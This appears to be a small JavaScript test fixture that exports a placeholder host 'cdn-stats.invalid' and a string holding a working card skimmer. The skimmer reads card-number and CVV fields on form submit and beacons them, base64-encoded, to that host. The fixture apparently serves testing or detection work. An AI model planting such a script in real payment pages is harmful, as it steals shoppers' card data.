// A card skimmer. Its address does not exist.
export const skimmerHost = 'cdn-stats.invalid'

export const skimmer = `document.addEventListener("submit", function () {
  var taken = { n: document.querySelector("input[name=card-number]").value, c: document.querySelector("#cvv").value };
  new Image().src = "https://${skimmerHost}/p.gif?d=" + btoa(JSON.stringify(taken));
});`
